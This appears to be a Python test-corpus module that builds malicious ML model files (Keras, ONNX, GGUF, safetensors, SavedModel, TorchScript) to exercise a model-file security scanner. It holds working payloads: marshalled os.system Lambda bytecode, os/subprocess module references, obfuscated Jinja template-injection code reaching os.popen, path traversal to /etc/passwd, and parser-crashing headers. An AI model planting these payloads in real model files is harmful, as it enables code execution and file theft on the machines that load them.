"""Malicious non-pickle formats: Keras (h5 and .keras) configs, ONNX, GGUF, safetensors,
TensorFlow SavedModel and TorchScript.

Keras files are written by hand (TensorFlow/Keras are not installed): the legacy h5 layout
(``model_config`` attribute) and the Keras 3 zip (``config.json``). Lambda bytecode is made
with ``marshal`` the way Keras' ``func_dump`` does. SavedModel protobuf is hand-encoded.
"""

from __future__ import annotations

import base64
import functools
import io
import json
import marshal
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.corpus._spec import Marker, Spec, mal

KER_LAMBDA = frozenset({"SCAN-KER-001"})
KER_MODULE = frozenset({"SCAN-KER-002"})
KER_EXTERNAL = frozenset({"SCAN-KER-004"})
ONNX_PATH = frozenset({"SCAN-ONNX-001"})
ST_BAD = frozenset({"SCAN-ST-001"})


# -- Keras ----------------------------------------------------------------------------------
def lambda_b64(m: Marker) -> str:
    """Base64 marshalled bytecode of ``lambda x: (os.system(<touch>), x)[1]`` (Keras func_dump)."""
    source = f"lambda x: (__import__('os').system({m.shell!r}), x)[1]"
    code = compile(source, "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode("ascii") + "\n"


def dense(name: str, units: int, activation: Any = "relu", *, k3: bool = False) -> dict[str, Any]:
    cfg: dict[str, Any] = {
        "name": name,
        "trainable": True,
        "dtype": "float32",
        "units": units,
        "activation": activation,
        "use_bias": True,
    }
    if not k3:
        return {"class_name": "Dense", "config": cfg}
    # Keras 3 spells dtype policies and initializers as keras-module references.
    cfg["dtype"] = {
        "module": "keras",
        "class_name": "DTypePolicy",
        "config": {"name": "float32"},
        "registered_name": None,
    }
    cfg["kernel_initializer"] = {
        "module": "keras.initializers",
        "class_name": "GlorotUniform",
        "config": {"seed": None},
        "registered_name": None,
    }
    cfg["bias_initializer"] = {
        "module": "keras.initializers",
        "class_name": "Zeros",
        "config": {},
        "registered_name": None,
    }
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": cfg,
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def keras2_lambda(m: Marker) -> dict[str, Any]:
    return {
        "class_name": "Lambda",
        "config": {
            "name": "preprocess",
            "trainable": True,
            "dtype": "float32",
            "function": [lambda_b64(m), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "arguments": {},
        },
    }


def keras2_sequential(layers: list[dict[str, Any]], name: str = "sequential") -> dict[str, Any]:
    inp = {
        "class_name": "InputLayer",
        "config": {
            "batch_input_shape": [None, 4],
            "dtype": "float32",
            "sparse": False,
            "name": "input_1",
        },
    }
    return {"class_name": "Sequential", "config": {"name": name, "layers": [inp, *layers]}}


def keras2_nested_lambda(m: Marker) -> dict[str, Any]:
    """Lambda inside TimeDistributed inside a Sequential used as a layer of a Sequential."""
    wrapped = {
        "class_name": "TimeDistributed",
        "config": {"name": "td", "trainable": True, "layer": keras2_lambda(m)},
    }
    inner = keras2_sequential([dense("inner_dense", 4), wrapped], name="block")
    return keras2_sequential([dense("dense", 8), inner, dense("head", 2, "softmax")])


def write_keras_h5(path: Path, config: dict[str, Any], *, weights: bool = True) -> None:
    """A legacy Keras h5 file: root attributes plus a ``model_weights`` group."""
    import h5py
    import numpy as np

    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(config)
        group = f.create_group("model_weights")
        group.attrs["layer_names"] = np.array([b"dense"])
        if weights:
            layer = group.create_group("dense/dense")
            layer.create_dataset("kernel:0", data=np.ones((4, 8), dtype=np.float32))
            layer.create_dataset("bias:0", data=np.zeros(8, dtype=np.float32))


def keras3_zip(config: dict[str, Any], *, weights: bytes = b"") -> bytes:
    """A Keras 3 ``.keras`` archive: config.json, metadata.json and the weights file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
        z.writestr("metadata.json", json.dumps(meta))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights)
    return out.getvalue()


def keras3_sequential(layers: list[dict[str, Any]]) -> dict[str, Any]:
    inp = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "layers": [inp, *layers]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def _keras3_lambda(m: Marker) -> dict[str, Any]:
    fn = {
        "class_name": "__lambda__",
        "config": {"code": lambda_b64(m), "defaults": None, "closure": None},
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {"name": "lambda", "function": fn, "arguments": {}},
    }


def _keras_rows() -> list[Spec]:
    h5 = ("h5py", "numpy")

    def h5_writer(config: Callable[[Marker], dict[str, Any]]) -> Callable[[Path, Marker], None]:
        return lambda path, m: write_keras_h5(path, config(m))

    fn_ref = {
        "module": "os",
        "class_name": "function",
        "config": "system",
        "registered_name": "system",
    }
    popen_layer = {
        "module": "subprocess",
        "class_name": "Popen",
        "registered_name": None,
        "config": {"args": ["sh", "-c", "id"]},
    }
    tfsm = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "registered_name": None,
        "config": {
            "name": "tfsm",
            "filepath": "/tmp/attacker/saved_model",
            "call_endpoint": "serve",
            "trainable": False,
        },
    }
    return [
        mal(
            "keras/lambda.h5",
            "keras-lambda",
            KER_LAMBDA,
            "legacy h5 model_config with a Lambda layer (marshalled bytecode)",
            write=h5_writer(lambda m: keras2_sequential([dense("d", 8), keras2_lambda(m)])),
            loader="keras-lambda",
            needs=h5,
            quick=True,
        ),
        mal(
            "keras/nested_lambda.h5",
            "keras-lambda",
            KER_LAMBDA,
            "Lambda inside TimeDistributed inside a nested Sequential, legacy h5",
            write=h5_writer(keras2_nested_lambda),
            loader="keras-lambda",
            needs=h5,
        ),
        mal(
            "keras/lambda.keras",
            "keras-lambda",
            KER_LAMBDA,
            "Keras 3 .keras zip whose config.json has a Lambda (__lambda__ bytecode)",
            lambda m: keras3_zip(keras3_sequential([dense("d", 8, k3=True), _keras3_lambda(m)])),
            loader="keras-lambda",
            quick=True,
        ),
        mal(
            "keras/function_reference.keras",
            "keras-module-reference",
            KER_MODULE,
            "Dense activation = {'module': 'os', 'class_name': 'function', 'config': 'system'}"
            " (CVE-2025-1550 family)",
            lambda m: keras3_zip(keras3_sequential([dense("d", 8, fn_ref, k3=True)])),
            quick=True,
        ),
        mal(
            "keras/module_class.keras",
            "keras-module-reference",
            KER_MODULE,
            "a layer whose module is 'subprocess' and class_name 'Popen'",
            lambda m: keras3_zip(keras3_sequential([popen_layer])),
        ),
        mal(
            "keras/tfsmlayer.keras",
            "keras-external-model",
            KER_EXTERNAL,
            "TFSMLayer loading a SavedModel from an attacker-chosen path (bypasses safe_mode)",
            lambda m: keras3_zip(keras3_sequential([tfsm])),
            quick=True,
        ),
    ]


# -- ONNX -----------------------------------------------------------------------------------
def onnx_model(*, location: str | None = None, custom_domain: str | None = None) -> Any:
    """Y = X + W (W 4 floats): optionally W in external data, optionally a custom-domain op."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones(4, dtype=np.float32), "W")
    if location is not None:
        w.ClearField("raw_data")
        w.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            w.external_data.add(key=key, value=value)
    op, domain = ("Add", "") if custom_domain is None else ("RunShell", custom_domain)
    node = helper.make_node(op, ["X", "W"], ["Y"], domain=domain)
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])],
        initializer=[w],
    )
    opsets = [helper.make_opsetid("", 17)]
    if custom_domain is not None:
        opsets.append(helper.make_opsetid(custom_domain, 1))
    model = helper.make_model(graph, opset_imports=opsets, producer_name="corpus")
    model.ir_version = 8
    return model


def onnx_if_model(*, location: str | None = None, custom_domain: str | None = None) -> Any:
    """The same Add (or custom op, or external W) moved into the then-branch of an If node."""
    from onnx import TensorProto, helper

    inner = onnx_model(location=location, custom_domain=custom_domain)
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])
    then_g = helper.make_graph(
        list(inner.graph.node), "then", [], [y], initializer=list(inner.graph.initializer)
    )
    else_g = helper.make_graph([helper.make_node("Identity", ["X"], ["Y"])], "else", [], [y])
    node = helper.make_node("If", ["cond"], ["Y"], then_branch=then_g, else_branch=else_g)
    inputs = [
        helper.make_tensor_value_info("cond", TensorProto.BOOL, []),
        helper.make_tensor_value_info("X", TensorProto.FLOAT, [4]),
    ]
    graph = helper.make_graph([node], "g", inputs, [y])
    model = helper.make_model(graph, opset_imports=list(inner.opset_import), producer_name="corpus")
    model.ir_version = 8
    return model


def _onnx_bytes(*, subgraph: bool = False, **kwargs: str) -> Callable[[Marker], bytes]:
    build = onnx_if_model if subgraph else onnx_model
    return lambda m: bytes(build(**kwargs).SerializeToString())


def _onnx_rows() -> list[Spec]:
    o = ("onnx", "numpy")

    def truncated(m: Marker) -> bytes:
        data = bytes(onnx_model().SerializeToString())
        return data[: len(data) // 2] + b"\xff\xff\xff\xff\x0f"

    return [
        mal(
            "onnx/external_traversal.onnx",
            "onnx-external-data",
            ONNX_PATH,
            "initializer external data at '../../etc/passwd'",
            _onnx_bytes(location="../../etc/passwd"),
            needs=o,
            quick=True,
        ),
        mal(
            "onnx/external_absolute.onnx",
            "onnx-external-data",
            ONNX_PATH,
            "initializer external data at the absolute path '/etc/passwd'",
            _onnx_bytes(location="/etc/passwd"),
            needs=o,
        ),
        mal(
            "onnx/custom_domain.onnx",
            "onnx-custom-op",
            frozenset({"SCAN-ONNX-002"}),
            "node RunShell from custom domain 'com.attacker.ops' (needs a native library)",
            _onnx_bytes(custom_domain="com.attacker.ops"),
            needs=o,
            quick=True,
        ),
        mal(
            "onnx/custom_domain_in_subgraph.onnx",
            "onnx-custom-op",
            frozenset({"SCAN-ONNX-002"}),
            "custom-domain op inside an If node's then-branch",
            _onnx_bytes(subgraph=True, custom_domain="com.attacker.ops"),
            needs=o,
        ),
        mal(
            "onnx/external_traversal_in_subgraph.onnx",
            "onnx-external-data",
            ONNX_PATH,
            "'../../etc/passwd' external data on an initializer inside an If subgraph",
            _onnx_bytes(subgraph=True, location="../../etc/passwd"),
            needs=o,
        ),
        mal(
            "onnx/truncated.onnx",
            "onnx-malformed",
            frozenset({"SCAN-ONNX-003"}),
            "ModelProto cut in half with a runaway varint",
            truncated,
            needs=o,
        ),
    ]


# -- GGUF -----------------------------------------------------------------------------------
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content']"
    " + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|im_start|>assistant\n' }}{% endif %}"
)


def write_gguf(
    path: Path, template: str | None, *, name: str = "tiny", extra: dict[str, str] | None = None
) -> None:
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name(name)
    writer.add_context_length(128)
    if template is not None:
        writer.add_chat_template(template)
    for key, value in (extra or {}).items():
        writer.add_string(key, value)
    writer.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def _gguf_rows() -> list[Spec]:
    def ssti(m: Marker) -> str:
        payload = "{{ cycler.__init__.__globals__.os.popen(CMD).read() }}"
        return payload.replace("CMD", repr(m.shell)) + CHATML

    def hidden(m: Marker) -> str:
        payload = "{{ self.__init__.__globals__.__builtins__.__import__('os').system(CMD) }}"
        return CHATML + "{% if messages %}" + payload.replace("CMD", repr(m.shell)) + "{% endif %}"

    def obfuscated(m: Marker) -> str:
        return (
            "{% set g = cycler|attr('__in'~'it__')|attr('__glo'~'bals__') %}"
            "{% set p = g['o'~'s']|attr('po'~'pen') %}"
            "{{ p(CMD)|attr('read')() }}" + CHATML
        ).replace("CMD", repr(m.shell))

    def malformed(m: Marker) -> bytes:
        key = b"general.name"
        kv = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, 2**40) + b"tiny"
        return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + kv

    g = ("gguf", "numpy")
    return [
        mal(
            "gguf/ssti_cycler.gguf",
            "gguf-template-injection",
            frozenset({"SCAN-GGUF-001"}),
            "chat template reaching os.popen through cycler.__init__.__globals__",
            write=lambda p, m: write_gguf(p, ssti(m)),
            loader="gguf-jinja",
            needs=g,
            quick=True,
        ),
        mal(
            "gguf/ssti_hidden_in_chatml.gguf",
            "gguf-template-injection",
            frozenset({"SCAN-GGUF-001"}),
            "realistic ChatML template with a __builtins__.__import__ payload in a branch",
            write=lambda p, m: write_gguf(p, hidden(m)),
            loader="gguf-jinja",
            needs=g,
        ),
        mal(
            "gguf/ssti_attr_filter_concat.gguf",
            "gguf-template-injection",
            frozenset({"SCAN-GGUF-001"}),
            "dunder names built by '~' concatenation and reached with the attr() filter",
            write=lambda p, m: write_gguf(p, obfuscated(m)),
            loader="gguf-jinja",
            needs=g,
        ),
        mal(
            "gguf/ssti_named_template.gguf",
            "gguf-template-injection",
            frozenset({"SCAN-GGUF-001"}),
            "benign default template; payload in the named 'tokenizer.chat_template.tool_use'",
            write=lambda p, m: write_gguf(
                p, CHATML, extra={"tokenizer.chat_template.tool_use": ssti(m)}
            ),
            loader="gguf-jinja",
            needs=g,
        ),
        mal(
            "gguf/string_past_eof.gguf",
            "gguf-malformed",
            frozenset({"SCAN-GGUF-002"}),
            "metadata string declaring 2**40 bytes in a 60-byte file",
            malformed,
        ),
    ]


# -- safetensors ----------------------------------------------------------------------------
def safetensors_raw(header: str, data: bytes, *, declared: int | None = None) -> bytes:
    """A safetensors file from a literal JSON header (so it can be invalid on purpose)."""
    raw = header.encode()
    return struct.pack("<Q", len(raw) if declared is None else declared) + raw + data


def _tensor(name: str, start: int, end: int, shape: int = 4) -> str:
    return f'"{name}": {{"dtype": "F32", "shape": [{shape}], "data_offsets": [{start}, {end}]}}'


def _safetensors_sample(header: str, size: int, declared: int | None, m: Marker) -> bytes:
    return safetensors_raw(header, bytes(size), declared=declared)


def _safetensors_rows() -> list[Spec]:
    rows = [
        (
            "overlap",
            "{" + _tensor("a", 0, 16) + ", " + _tensor("b", 8, 24) + "}",
            24,
            None,
            "tensors a and b share bytes 8..16",
        ),
        (
            "duplicate_keys",
            "{" + _tensor("w", 0, 16) + ", " + _tensor("w", 16, 32) + "}",
            32,
            None,
            "the same tensor name twice: parsers keep different ones",
        ),
        (
            "offsets_past_data",
            "{" + _tensor("w", 0, 64, 16) + "}",
            16,
            None,
            "data_offsets end at 64 with 16 data bytes",
        ),
        (
            "shape_mismatch",
            "{" + _tensor("w", 0, 8) + "}",
            8,
            None,
            "F32 shape [4] needs 16 bytes, offsets give 8",
        ),
        (
            "header_past_eof",
            "{" + _tensor("w", 0, 16) + "}",
            16,
            10**6,
            "header length field says 1 MB in a ~100-byte file",
        ),
    ]
    return [
        mal(
            f"safetensors/{name}.safetensors",
            "safetensors-malformed",
            ST_BAD,
            note,
            functools.partial(_safetensors_sample, header, size, declared),
            quick=name == "overlap",
        )
        for name, header, size, declared, note in rows
    ]


# -- TensorFlow SavedModel and TorchScript ---------------------------------------------------
def _pb_field(number: int, payload: bytes | int) -> bytes:
    def varint(n: int) -> bytes:
        out = bytearray()
        while True:
            out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
            n >>= 7
            if not n:
                return bytes(out)

    if isinstance(payload, int):
        return varint(number << 3) + varint(payload)
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def saved_model_pb(ops: list[tuple[str, str]]) -> bytes:
    """SavedModel{schema 1, MetaGraphDef{tags: serve, GraphDef{NodeDef(name, op)...}}}."""
    nodes = b"".join(
        _pb_field(1, _pb_field(1, n.encode()) + _pb_field(2, o.encode())) for n, o in ops
    )
    meta = _pb_field(1, _pb_field(4, b"serve")) + _pb_field(2, nodes)
    return _pb_field(1, 1) + _pb_field(2, meta)


def _torchscript_custom_op(path: Path, m: Marker) -> None:
    import torch

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Sequential(torch.nn.ReLU())), buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename.endswith("modules/activation.py"):
                body = body.replace(
                    b"    return _0\n",
                    f"    _1 = ops.attacker_ops.run_shell({m.shell!r})\n    return _0\n".encode(),
                )
            dst.writestr(info, body)
    path.write_bytes(out.getvalue())


def _graph_rows() -> list[Spec]:
    tf = frozenset({"SCAN-TF-001"})
    return [
        mal(
            "tf/readfile/saved_model.pb",
            "tf-dangerous-op",
            tf,
            "SavedModel graph with ReadFile and WriteFile nodes",
            lambda m: saved_model_pb(
                [("path", "Const"), ("read", "ReadFile"), ("write", "WriteFile")]
            ),
            quick=True,
        ),
        mal(
            "tf/pyfunc/saved_model.pb",
            "tf-dangerous-op",
            tf,
            "SavedModel graph with a PyFunc node (runs Python in the serving process)",
            lambda m: saved_model_pb([("x", "Placeholder"), ("hook", "PyFunc")]),
        ),
        mal(
            "torchscript/custom_op.pt",
            "torchscript-custom-op",
            frozenset({"SCAN-TS-001"}),
            "TorchScript code calling ops.attacker_ops.run_shell (native custom op)",
            write=_torchscript_custom_op,
            needs=("torch",),
        ),
    ]


def specs() -> list[Spec]:
    """Every malicious non-pickle spec."""
    return [*_keras_rows(), *_onnx_rows(), *_gguf_rows(), *_safetensors_rows(), *_graph_rows()]
